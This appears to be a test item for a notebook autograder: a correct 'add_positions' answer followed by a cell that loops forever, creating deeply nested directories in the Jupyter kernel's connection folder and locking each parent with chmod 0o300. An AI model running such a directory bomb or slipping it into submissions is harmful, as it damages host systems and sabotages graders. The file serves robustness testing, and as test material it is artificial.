# question: add_positions
# expect: full
# heavy: yes
# why: deep, locked folders in the folder of its connections; the answer was recorded before
def add_positions(token_emb, P):
    return token_emb + P[: token_emb.shape[1]]
# %% after add_positions_check
import os
from pathlib import Path

from ipykernel.connect import get_connection_file

os.chdir(Path(get_connection_file()).parent)
while True:
    os.mkdir("d" * 200)
    os.chdir("d" * 200)
    os.chmod("..", 0o300)
